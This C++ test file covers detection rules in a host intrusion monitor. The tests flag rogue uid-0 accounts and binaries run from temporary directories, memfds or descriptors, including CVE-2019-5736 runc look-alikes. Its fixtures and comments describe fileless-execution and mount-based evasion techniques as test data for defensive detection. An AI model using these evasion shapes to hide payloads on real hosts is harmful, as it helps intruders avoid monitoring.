TEST_F(BundledRules, UidZeroAccountFindsExactlyTheOtherRoots) {
  const auto rule = bundled("uid0-account");
  ASSERT_TRUE(rule);
  EXPECT_EQ(rule->key_columns, (std::vector<std::string>{"username", "uid"}));
  auto none = engine_->run(rule->query);
  ASSERT_TRUE(none) << none.error();
  EXPECT_TRUE(none->rows.empty());  // no accounts stored yet
  auto users = ordinary_accounts();
  users.push_back({.uid = 0, .gid = 0, .username = "toor", .directory = "/", .shell = "/bin/sh"});
  users.push_back({.uid = 0, .gid = 1000, .username = "systemd-helper", .description = "x", .directory = "/var/tmp",
                   .shell = "/bin/bash"});
  users.push_back({.uid = 4294967295, .gid = 0, .username = "minus-one", .directory = "/", .shell = "/bin/sh"});
  users.push_back({.uid = 65536, .gid = 0, .username = "wraps16", .directory = "/", .shell = "/bin/sh"});
  ASSERT_TRUE(store_->replace_users(users));
  auto r = engine_->run(rule->query);
  ASSERT_TRUE(r) << r.error();
  std::set<std::string> found;
  for (const auto& row : r->rows) found.insert(std::get<std::string>(row.at(0)));
  EXPECT_EQ(found, (std::set<std::string>{"toor", "systemd-helper"}));
  EXPECT_EQ(r->rows.size(), 2u);
}

// listener-without-account stays quiet while the users table is empty
// (procmond has not read the file, or an older one runs): otherwise every
// listener would have "no account".
TEST_F(BundledRules, ListenerWithoutAccountIsQuietWithoutAccounts) {
  const auto rule = bundled("listener-without-account");
  ASSERT_TRUE(rule);
  auto svc = proc(1000, "svc", "/usr/local/bin/svc", "svc");
  svc.uid = svc.euid = 4242;
  ASSERT_TRUE(store_->apply_snapshot(std::vector{svc}));
  ASSERT_TRUE(store_->replace_sockets(std::vector{inet_socket_row(1000, 3, 2, 6, "0.0.0.0", 0, "LISTEN")}));
  auto quiet = engine_->run(rule->query);
  ASSERT_TRUE(quiet) << quiet.error();
  EXPECT_TRUE(quiet->rows.empty());
  ASSERT_TRUE(store_->replace_users(ordinary_accounts()));
  auto raised = engine_->run(rule->query);
  ASSERT_TRUE(raised) << raised.error();
  EXPECT_EQ(raised->rows.size(), 1u);
}

TEST_F(BundledRules, ExecFromTmpSeesAPayloadThatLivedBetweenTwoScans) {
  const auto rule = bundled("exec-from-tmp");
  ASSERT_TRUE(rule);
  ASSERT_TRUE(store_->apply_snapshot(ordinary_host()));
  const std::int64_t now = ::time(nullptr);
  // Started, exec'd from /tmp and gone again before the next scan: only its
  // events are stored. An old one (10 minutes ago) is not raised again.
  auto brief = proc(4000, "payload", "/tmp/.x/payload", "/tmp/.x/payload -c 10.0.0.1");
  auto old = proc(4001, "payload", "/dev/shm/old", "/dev/shm/old");
  auto fine = proc(4002, "true", "/usr/bin/true", "true");
  ASSERT_TRUE(store_->append_events(std::vector<ProcessEvent>{
      {EventKind::exec, EventSource::ebpf, now - 1, brief},
      {EventKind::stop, EventSource::ebpf, now - 1, brief},
      {EventKind::exec, EventSource::ebpf, now - 600, old},
      {EventKind::stop, EventSource::ebpf, now - 600, old},
      {EventKind::exec, EventSource::ebpf, now - 1, fine},
  }));
  EXPECT_EQ(store_->process(4000), nullptr);
  auto found = pids_found(*engine_, rule->query);
  ASSERT_TRUE(found) << found.error();
  ASSERT_EQ(found->size(), 1u);
  EXPECT_EQ(*found->begin(), 4000);
}

// Since schema 4 an exec's `path` is the kernel's while the process lives
// (a memfd run through fexecve: /memfd:x; ./sl: /tmp/x/sl) and the text it
// gave is in path_given: a path_given that leads through an fd or into a
// temporary directory is found, whatever `path` became.
TEST_F(BundledRules, ExecFromTmpReadsThePathAnExecWasGiven) {
  const auto rule = bundled("exec-from-tmp");
  ASSERT_TRUE(rule);
  ASSERT_TRUE(store_->apply_snapshot(ordinary_host()));
  const std::int64_t now = ::time(nullptr);
  std::vector<ProcessEvent> events{
      exec_given(proc(4100, "3", "/memfd:payload (deleted)"), "/dev/fd/3", now - 1),
      exec_given(in_dir(proc(4101, "sl", "/opt/sl"), "/tmp/x"), "../../tmp//x/sl", now - 1),
      exec_given(proc(4102, "true", "/usr/bin/true"), "/usr/bin/true", now - 1),
      exec_given(in_dir(proc(4103, "make", "/usr/bin/make"), "/home/alice/src"), "make", now - 1),
      exec_given(proc(4104, "runc", "/usr/bin/runc"), "/proc/self/exe", now - 1),
  };
  for (const auto& e : std::vector<ProcessEvent>(events)) events.push_back({EventKind::stop, EventSource::ebpf, now - 1, e.process});
  ASSERT_TRUE(store_->append_events(events));
  auto found = pids_found(*engine_, rule->query);
  ASSERT_TRUE(found) << found.error();
  EXPECT_EQ(distinct(*found), (std::set<std::int64_t>{4100, 4101}));
}

// Fileless code: an image that is a memfd (the kernel's path /memfd:NAME;
// procmond drops " (deleted)") is flagged however it was run — /dev/stdin,
// a symbolic link in a home directory to /proc/self/fd/N, neither of which
// the descriptor patterns name — live in `processes` or gone (its exec
// event). Before 2026-12-06 none of these fired.
TEST_F(BundledRules, ExecFromTmpFlagsAMemfdImageHoweverItWasRun) {
  const auto rule = bundled("exec-from-tmp");
  ASSERT_TRUE(rule);
  std::vector<ProcessRecord> host = ordinary_host();
  host.push_back(proc(4400, "x", "/memfd:x", "x"));  // live, run from /dev/stdin
  ASSERT_TRUE(store_->apply_snapshot(host));
  const std::int64_t now = ::time(nullptr);
  ASSERT_TRUE(store_->append_events(std::vector{
      exec_given(proc(4401, "l", "/memfd:"), "/home/alice/l", now - 1),    // gone; a link to /proc/self/fd/3
      exec_given(proc(4402, "stdin", "/memfd:payload"), "/dev/stdin", now - 1),  // gone
      exec_given(proc(4403, "true", "/usr/bin/true"), "/home/alice/true", now - 1),  // a link to a file: quiet
  }));
  auto found = pids_found(*engine_, rule->query);
  ASSERT_TRUE(found) << found.error();
  EXPECT_EQ(distinct(*found), (std::set<std::int64_t>{4400, 4401, 4402}));
}

// A payload still running, whose row in `processes` (path, argv, cwd) is
// what its exec event says: the row does not stand for the event when the
// event's path as given is the tell. A memfd run through /dev/fd/3 has the
// path /memfd:NAME (matched by nothing), so reading the row alone missed it
// once a collection had stored it (before 2026-12-06). A live exec whose
// given path tells nothing more (/usr/bin/true, //tmp written as the path
// too) is still read once, through its row.
TEST_F(BundledRules, ExecFromTmpReadsTheGivenPathOfAProcessStillRunning) {
  const auto rule = bundled("exec-from-tmp");
  ASSERT_TRUE(rule);
  const std::int64_t now = ::time(nullptr);
  std::vector<ProcessRecord> host = ordinary_host();
  const ProcessRecord memfd = proc(4200, "3", "/memfd:payload (deleted)", "payload");
  const ProcessRecord plain = proc(4201, "true", "/usr/bin/true", "true");
  const ProcessRecord tmp = proc(4202, "sl", "/tmp/x/sl", "sl");
  host.insert(host.end(), {memfd, plain, tmp});
  ASSERT_TRUE(store_->apply_snapshot(host));
  ASSERT_TRUE(store_->append_events(
      std::vector{exec_given(memfd, "/dev/fd/3", now - 1), exec_given(plain, "/usr/bin/true", now - 1),
                  exec_given(tmp, "//tmp/x/sl", now - 1)}));
  auto found = pids_found(*engine_, rule->query);
  ASSERT_TRUE(found) << found.error();
  // The memfd's row matches by its path too (a memfd image, ExecFromTmpFlagsAMemfdImageHoweverItWasRun):
  // row and event, one alert (dedup key pid and start_time).
  EXPECT_EQ(*found, (std::multiset<std::int64_t>{4200, 4200, 4202, 4202}));
}

// runc (Debian 12's 1.1.5, rootful) starts a container's init by exec'ing
// /proc/self/exe and at once re-execs that image through an fd
// (execveat(fd, "", AT_EMPTY_PATH): the path given is /dev/fd/6) opened on a
// bind mount of itself that it detached, so /proc/PID/exe reads "/"
// (CVE-2019-5736). The shapes below are what procmond stored for five real
// `podman --runtime runc run`s: the first exec's path is /usr/sbin/runc, or
// "/" when /proc was read after the re-exec. The rule leaves that alone, and
// only that, when root does it under the host's root directory: an
// unprivileged user can make a detached mount in namespaces of their own but
// is not uid 0 on the host; root in a rootful container can unshare those
// namespaces too and copy the rest of the shape, but its root is the
// container's (root_is_host 0), and runc re-execs before it pivots (1).
// Every copy below (a memfd named runc_cloned, a file named runc, argv[0]
// runc, a runc parent, runc's own shape run by another uid or under another
// root, or with the root unknown) still fires.
TEST_F(BundledRules, ExecFromTmpLeavesRuncsOwnReexecAloneButNotItsCopies) {
  const auto rule = bundled("exec-from-tmp");
  ASSERT_TRUE(rule);
  ASSERT_TRUE(store_->apply_snapshot(ordinary_host()));
  const std::int64_t now = ::time(nullptr);
  std::vector<ProcessEvent> events;
  // One event of process `pid` (uid and euid `uid`, parent 5000: runc create).
  // Its root: the host's (1) unless a test says otherwise.
  int root_is_host = 1;
  const auto event = [&](EventKind kind, std::int64_t pid, std::int64_t uid, std::string name, std::string path,
                         std::string given, std::string cmdline) {
    ProcessRecord p = proc(pid, std::move(name), std::move(path), std::move(cmdline), 5000);
    p.uid = p.euid = p.suid = p.gid = p.egid = p.sgid = uid;
    p.root_is_host = root_is_host;
    p.username = uid == 0 ? "root" : "alice";
    p.sha256 = "";  // an exec event does not carry its image's hash
    ProcessEvent e{kind, EventSource::ebpf, now - 1, std::move(p)};
    e.path_given = std::move(given);
    events.push_back(std::move(e));
  };
  const std::string create = "/usr/bin/runc --log-format=json create --bundle /var/lib/containers/b/userdata x";
  const std::string init = "/usr/bin/runc init";
  // runc create's child (forked: runc's image, as procmond knew its parent)
  // exec'ing /proc/self/exe (read as `first`), then the fd (read as `then`).
  // root_first and root_then: root_is_host of the two execs.
  const auto runc_init = [&](std::int64_t pid, std::int64_t uid, std::string forked_from, std::string first,
                             std::string then, std::string then_given = "/dev/fd/6", int root_first = 1,
                             int root_then = 1) {
    event(EventKind::start, pid, uid, "runc", std::move(forked_from), "", create);
    root_is_host = root_first;
    event(EventKind::exec, pid, uid, "exe", std::move(first), "/proc/self/exe", init);
    root_is_host = root_then;
    event(EventKind::exec, pid, uid, "runc", std::move(then), std::move(then_given), init);
    event(EventKind::stop, pid, uid, "runc:[0:PARENT]", "/", "", init);
    root_is_host = 1;
  };
  // runc's own re-exec: quiet.
  runc_init(5001, 0, "/usr/bin/runc", "/usr/sbin/runc", "/");
  runc_init(5002, 0, "/usr/bin/runc", "/", "/");                 // /proc read after the re-exec
  runc_init(5003, 0, "/usr/sbin/runc", "/usr/sbin/runc", "/");   // its parent seen by a collection
  // Gone before the re-exec was read: what ran is unknown; still raised.
  runc_init(5010, 0, "/usr/bin/runc", "/proc/self/exe", "/dev/fd/6");
  // runc's shape, but not root: rootless runc, runc run with LD_PRELOAD, or
  // a user's own user and mount namespaces with a detached bind mount.
  runc_init(5011, 1000, "/usr/bin/runc", "/usr/sbin/runc", "/");
  // A memfd named as runc's (root in a container; runc that copies itself
  // into a memfd also looks so): the name is the caller's.
  runc_init(5012, 0, "/usr/bin/runc", "/usr/sbin/runc", "/memfd:runc_cloned:/proc/self/exe");
  // Through /proc/self/fd/N, which runc's fexecve does not give.
  runc_init(5013, 0, "/usr/bin/runc", "/usr/sbin/runc", "/", "/proc/self/fd/6");
  // A memfd named runc_cloned exec'd by python, argv[0] runc.
  event(EventKind::start, 5020, 1000, "python3", "/usr/bin/python3.11", "", "python3 x.py");
  event(EventKind::exec, 5020, 1000, "3", "/memfd:runc_cloned:/proc/self/exe", "/proc/self/fd/3", init);
  // A file named runc in /tmp, which re-execs itself through an fd as runc does.
  event(EventKind::start, 5021, 0, "bash", "/usr/bin/bash", "", "bash");
  event(EventKind::exec, 5021, 0, "runc", "/tmp/runc", "/tmp/runc", "/tmp/runc init");
  event(EventKind::exec, 5021, 0, "exe", "/", "/proc/self/exe", "/tmp/runc init");
  event(EventKind::exec, 5021, 0, "runc", "/", "/dev/fd/6", "/tmp/runc init");
  // argv[0] runc: another image before the re-exec.
  event(EventKind::start, 5022, 0, "sh", "/usr/bin/dash", "", "sh -c x");
  event(EventKind::exec, 5022, 0, "exe", "/usr/bin/dash", "/proc/self/exe", init);
  event(EventKind::exec, 5022, 0, "runc", "/", "/dev/fd/6", init);
  // A child of runc (root) exec'ing a /tmp payload through /proc/self/fd/N,
  // alive (the kernel's path) and gone (the text given), with and without
  // a /proc/self/exe exec before.
  event(EventKind::start, 5023, 0, "runc", "/usr/bin/runc", "", create);
  event(EventKind::exec, 5023, 0, "5", "/tmp/.x/payload", "/proc/self/fd/5", init);
  event(EventKind::start, 5024, 0, "runc", "/usr/bin/runc", "", create);
  event(EventKind::exec, 5024, 0, "5", "/proc/self/fd/5", "/proc/self/fd/5", init);
  runc_init(5025, 0, "/usr/bin/runc", "/usr/sbin/runc", "/tmp/.x/payload", "/proc/self/fd/5");
  // Root in a rootful container, in a user and mount namespace of its own,
  // with its own /usr/bin/runc: the whole shape, all uid 0, under the
  // container's root (its fork too).
  root_is_host = 0;
  runc_init(5030, 0, "/usr/bin/runc", "/usr/sbin/runc", "/", "/dev/fd/6", 0, 0);
  // Only one of the two execs under another root.
  runc_init(5031, 0, "/usr/bin/runc", "/usr/sbin/runc", "/", "/dev/fd/6", 1, 0);
  runc_init(5032, 0, "/usr/bin/runc", "/usr/sbin/runc", "/", "/dev/fd/6", 0, 1);
  // Root not read (gone before procmond read /proc, or an older procmond):
  // unknown is not the host's.
  runc_init(5033, 0, "/usr/bin/runc", "/usr/sbin/runc", "/", "/dev/fd/6", 1, -1);
  runc_init(5034, 0, "/usr/bin/runc", "/", "/", "/dev/fd/6", -1, 1);
  // Another exec between runc's /proc/self/exe and the fd.
  event(EventKind::start, 5026, 0, "runc", "/usr/bin/runc", "", create);
  event(EventKind::exec, 5026, 0, "exe", "/usr/sbin/runc", "/proc/self/exe", init);
  event(EventKind::exec, 5026, 0, "x", "/opt/x", "/opt/x", init);
  event(EventKind::exec, 5026, 0, "runc", "/", "/dev/fd/6", init);
  // Each is gone before the scan, as runc's is: a live one's row in
  // `processes` stands for its exec event (the rule reads it once).
  std::map<std::int64_t, ProcessRecord> last;
  for (const auto& e : events) {
    if (e.kind == EventKind::stop) {
      last.erase(e.process.pid);
    } else {
      last[e.process.pid] = e.process;
    }
  }
  for (const auto& [pid, p] : last) events.push_back({EventKind::stop, EventSource::ebpf, now - 1, p});
  ASSERT_TRUE(store_->append_events(events));

  auto result = engine_->run(rule->query);
  ASSERT_TRUE(result) << result.error();
  const auto col = [&](const char* name) {
    return static_cast<std::size_t>(std::ranges::find(result->columns, name) - result->columns.begin());
  };
  std::set<std::pair<std::int64_t, std::string>> found;
  for (const auto& row : result->rows) {
    const auto pid = std::get<std::int64_t>(row[col("pid")]);
    if (pid >= 5000) found.emplace(pid, std::get<std::string>(row[col("path")]));
  }
  EXPECT_EQ(found, (std::set<std::pair<std::int64_t, std::string>>{
                       {5010, "/dev/fd/6"},
                       {5011, "/"},
                       {5012, "/memfd:runc_cloned:/proc/self/exe"},
                       {5013, "/"},
                       {5020, "/memfd:runc_cloned:/proc/self/exe"},
                       {5021, "/tmp/runc"},
                       {5021, "/"},
                       {5022, "/"},
                       {5023, "/tmp/.x/payload"},
                       {5024, "/proc/self/fd/5"},
                       {5025, "/tmp/.x/payload"},
                       {5026, "/"},
                       {5030, "/"},
                       {5031, "/"},
                       {5032, "/"},
                       {5033, "/"},
                       {5034, "/"},
                   }));
}

// An exec event whose path procmond's eBPF program read in the kernel at
// the exec (path_from 'exec', schema 7) is judged by that path: the process
// cannot have changed it (before, only the path given was trusted, and every
// airssys-osl spawn, execveat(fd, "", AT_EMPTY_PATH), raised the rule). The
// same rows from the fallbacks (proc: read from /proc later, which a payload
// that execs sleep at once turns into sleep's path; given; NULL: an older
// procmond) are still judged by the path given, and a mount attached
// nowhere ('detached') names no place.
TEST_F(BundledRules, ExecFromTmpJudgesAnExecByTheKernelsPathReadAtTheExec) {
  const auto rule = bundled("exec-from-tmp");
  ASSERT_TRUE(rule);
  ASSERT_TRUE(store_->apply_snapshot(ordinary_host()));
  const std::int64_t now = ::time(nullptr);
  std::vector<ProcessEvent> events;
  std::int64_t pid = 6000;
  const auto exec = [&](std::string path, std::string given, PathFrom from, std::int64_t uid = 1000) {
    ProcessRecord p = proc(pid++, "x", std::move(path), "x --beacon", 5000);
    p.uid = p.euid = uid;
    p.root_is_host = 1;
    ProcessEvent e{EventKind::exec, EventSource::ebpf, now - 1, std::move(p)};
    e.path_given = std::move(given);
    e.path_from = from;
    events.push_back(e);
    events.push_back(ProcessEvent{EventKind::stop, EventSource::ebpf, now - 1, e.process});
  };
  exec("/usr/bin/sleep", "/dev/fd/3", PathFrom::exec);             // 6000 osl's spawn: quiet
  exec("/usr/bin/dash", "/bin/sh", PathFrom::exec);                // 6001 a link: quiet
  exec("/usr/bin/sleep", "/proc/self/fd/4", PathFrom::exec);       // 6002 quiet
  exec("/tmp/x/payload", "/dev/fd/3", PathFrom::exec);             // 6003
  exec("/memfd:payload", "/dev/fd/3", PathFrom::exec);             // 6004
  exec("/tmp/x/payload", "/home/u/l", PathFrom::exec);             // 6005 a link from elsewhere
  exec("/usr/bin/true", "/tmp/l", PathFrom::exec);                 // 6006 a link in /tmp
  exec("/srv/chroot/tmp/x", "/tmp/x", PathFrom::exec);             // 6007 a chroot's /tmp
  exec("/usr/bin/sleep", "/dev/fd/3", PathFrom::proc);             // 6008 the 57ebfff evasion
  exec("/usr/bin/sleep", "/dev/fd/3", PathFrom::given);            // 6009
  exec("/usr/bin/sleep", "/dev/fd/3", PathFrom::none);             // 6010 an older procmond
  exec("/", "/dev/fd/3", PathFrom::detached);                      // 6011 a detached mount
  exec("/payload", "/dev/fd/3", PathFrom::detached, 0);            // 6012
  // runc 1.1's re-exec as the eBPF tier now stores it (root read at the
  // exec, "/" detached): quiet; the same shape by another uid is raised.
  for (const std::int64_t uid : {0, 1000}) {
    const std::int64_t at = pid++;
    const auto event = [&](EventKind kind, std::string path, std::string given, PathFrom from) {
      ProcessRecord p = proc(at, "runc", std::move(path), "/usr/bin/runc init", 5000);
      p.uid = p.euid = uid;
      p.root_is_host = 1;
      ProcessEvent e{kind, EventSource::ebpf, now - 1, std::move(p)};
      e.path_given = std::move(given);
      e.path_from = from;
      events.push_back(std::move(e));
    };
    event(EventKind::start, "/usr/sbin/runc", "", PathFrom::none);
    event(EventKind::exec, "/usr/sbin/runc", "/proc/self/exe", PathFrom::exec);
    event(EventKind::exec, "/", "/dev/fd/6", PathFrom::detached);
    event(EventKind::stop, "/", "", PathFrom::none);
  }
  ASSERT_TRUE(store_->append_events(events));
  auto found = pids_found(*engine_, rule->query);
  ASSERT_TRUE(found) << found.error();
  EXPECT_EQ(distinct(*found, 6000),
            (std::set<std::int64_t>{6003, 6004, 6005, 6006, 6007, 6008, 6009, 6010, 6011, 6012, 6014}));
}

// A script's exec event (path_from 'interp'): its path is the kernel's path
// of the interpreter that runs, read at the exec, judged like any image
// (a memfd, a file in /tmp named by "#!"), and its given path, the
// script's, is judged in full, descriptors and all; a script and an
// interpreter in ordinary places are quiet.
TEST_F(BundledRules, ExecFromTmpJudgesAScriptByItsInterpreterAndByTheScript) {
  const auto rule = bundled("exec-from-tmp");
  ASSERT_TRUE(rule);
  ASSERT_TRUE(store_->apply_snapshot(ordinary_host()));
  const std::int64_t now = ::time(nullptr);
  std::vector<ProcessEvent> events;
  std::int64_t pid = 6100;
  const auto exec = [&](std::string path, std::string given, std::string cwd = "/home/u") {
    ProcessRecord p = proc(pid++, "x", std::move(path), "x --beacon", 5000);
    p.cwd = std::move(cwd);
    p.root_is_host = 1;
    ProcessEvent e{EventKind::exec, EventSource::ebpf, now - 1, std::move(p)};
    e.path_given = std::move(given);
    e.path_from = PathFrom::interp;
    events.push_back(e);
    events.push_back(ProcessEvent{EventKind::stop, EventSource::ebpf, now - 1, e.process});
  };
  exec("/memfd:x", "/home/u/sA");                   // 6100 #!/proc/self/fd/3, a memfd there
  exec("/tmp/x/payload", "/home/u/sB");             // 6101 #!/tmp/x/payload
  exec("/usr/bin/dash", "/home/u/script");          // 6102 quiet
  exec("/usr/bin/dash", "/tmp/x/script");           // 6103 the script in /tmp
  exec("/usr/bin/dash", "/dev/fd/3");               // 6104 a script run through a descriptor
  exec("/usr/bin/python3.11", "/usr/local/bin/t");  // 6105 quiet
  exec("/usr/bin/dash", "./sC", "/tmp/x");          // 6106 relative, in /tmp
  exec("/usr/bin/dash", "./sD", "/srv/app");        // 6107 quiet
  ASSERT_TRUE(store_->append_events(events));
  auto found = pids_found(*engine_, rule->query);
  ASSERT_TRUE(found) << found.error();
  EXPECT_EQ(distinct(*found, 6100), (std::set<std::int64_t>{6100, 6101, 6103, 6104, 6106}));
}

// An exec event's host_path (schema 9, eBPF: the host's path of the image,
// found from its device and its path in its filesystem) is judged for the
// temporary directories too: a /tmp directory bound elsewhere in the
// process's own mount namespace (unshare -Urm) and run there is raised by
// it, gone or still running (its processes row has only the bound path);
// /usr/bin bound elsewhere, a direct run, and a file the host has not
// mounted (NULL) are quiet.
TEST_F(BundledRules, ExecFromTmpJudgesAnExecByTheHostsPathOfItsImage) {
  const auto rule = bundled("exec-from-tmp");
  ASSERT_TRUE(rule);
  const std::int64_t now = ::time(nullptr);
  std::vector<ProcessEvent> events;
  std::vector<ProcessRecord> live = ordinary_host();
  std::int64_t pid = 6200;
  const auto exec = [&](std::string path, std::string host, bool lives = false) {
    ProcessRecord p = proc(pid++, "x", path, "x --beacon", 5000);
    ProcessEvent e{EventKind::exec, EventSource::ebpf, now - 1, p};
    e.path_given = std::move(path);
    e.path_from = PathFrom::exec;
    e.image_dev = 65024;
    e.image_ino = 1000 + static_cast<std::uint64_t>(p.pid);
    e.host_path = std::move(host);
    events.push_back(e);
    if (lives) {
      live.push_back(p);
    } else {
      events.push_back(ProcessEvent{EventKind::stop, EventSource::ebpf, now - 1, p});
    }
  };
  exec("/run/x/payload", "/tmp/d/payload");        // 6200 /tmp/d bound onto /run/x
  exec("/mnt/true", "/usr/bin/true");              // 6201 /usr/bin bound onto /mnt: quiet
  exec("/usr/bin/true", "/usr/bin/true");          // 6202 quiet
  exec("/run/x/p", "");                            // 6203 a private tmpfs: quiet
  exec("/run/x/payload", "/tmp/d/payload", true);  // 6204 still running
  exec("/run/x/a", "/var/tmp/a");                  // 6205
  exec("/run/x/b", "/dev/shm/b");                  // 6206
  exec("/run/x/c", "/tmpx/c");                     // 6207 not a temporary directory: quiet
  exec("/run/x/d", "/run/lock/d");                 // 6208
  // Deeper than procmond's walk stores: its top directory's host path and
  // "/…", judged as any; "…" alone (even the top unknown): flagged.
  exec("/run/x/p", "/tmp/d/…");                         // 6209
  exec("/run/x/p", "…");                                // 6210
  exec("/opt/x/p", "/opt/a/…");                         // 6211 not a temporary directory: quiet
  // Root in a rootful container binding its /tmp/d onto /opt/x: the host
  // sees the file under the container's root.
  exec("/opt/x/p", "/var/lib/containers/storage/overlay/0a1b/merged/tmp/d/p");  // 6212 podman
  exec("/opt/x/p", "/var/lib/docker/overlay2/0a1b/merged/dev/shm/p");           // 6213 docker
  exec("/opt/x/p", "/run/containerd/io.containerd.runtime.v2.task/k8s.io/0a1b/rootfs/var/tmp/p");  // 6214
  exec("/usr/bin/true", "/var/lib/docker/overlay2/0a1b/merged/usr/bin/true");  // 6215 quiet
  exec("/opt/x/p", "/var/lib/docker/overlay2/0a1b/merged/opt/tmp/p");          // 6216 quiet
  ASSERT_TRUE(store_->apply_snapshot(live));
  ASSERT_TRUE(store_->append_events(events));
  auto found = pids_found(*engine_, rule->query);
  ASSERT_TRUE(found) << found.error();
  EXPECT_EQ(distinct(*found, 6200),
            (std::set<std::int64_t>{6200, 6204, 6205, 6206, 6208, 6209, 6210, 6212, 6213, 6214}));
}

TEST_F(BundledRules, ABadFileBesideThemIsRejectedAndTheOthersLoad) {
  TempDir dir;
  for (const auto& entry : fs::directory_iterator(rules_dir())) {
    if (!entry.is_regular_file()) continue;  // sigma/: the Sigma rules, tested by daemoneye.sigma_bundled
    fs::copy_file(entry.path(), dir / entry.path().filename());
  }
  test::write_file(dir / "broken.yaml",
                   "id: broken\nname: Broken\nseverity: high\nquery: SELECT pid FROM procs\n");
  RuleSet set = load_rules(dir.path(), engine_.get());
  EXPECT_EQ(set.rules.size(), 12u);
  ASSERT_EQ(set.errors.size(), 1u);
  EXPECT_EQ(set.errors[0].file, dir / "broken.yaml");
  EXPECT_EQ(set.errors[0].message,
            (dir / "broken.yaml").string() + ":4: query refused: no such table: procs (readable: processes, process_events, alerts, "
            "scans, process_open_sockets, listening_ports, users, groups, excepted_alerts, process_memory_map)");
}

}  // namespace
}  // namespace airssys::daemoneye
